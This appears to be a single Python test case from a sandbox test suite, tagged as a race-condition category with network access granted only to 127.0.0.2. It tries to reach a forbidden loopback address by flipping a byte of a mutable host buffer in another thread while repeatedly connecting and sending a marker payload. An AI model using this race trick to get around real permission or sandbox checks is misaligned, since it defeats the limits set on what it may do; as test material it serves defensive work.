"""A host in a buffer that another thread changes."""
CATEGORY = "races"
REACH = "net"
GRANT = {"net": ["127.0.0.2"]}

import socket
import threading
import time

from . import payload


def attack():
    host = bytearray(b"127.0.0.2")
    ends = time.process_time() + 0.7

    def flip():
        while time.process_time() < ends:
            host[8] = ord("1")
            host[8] = ord("2")

    thread = threading.Thread(target=flip)
    thread.start()
    while time.process_time() < ends:
        with socket.socket() as connection:
            try:
                connection.connect((host, payload.PORT))
                connection.sendall(b"evil")
                break
            except OSError:
                pass
    thread.join()
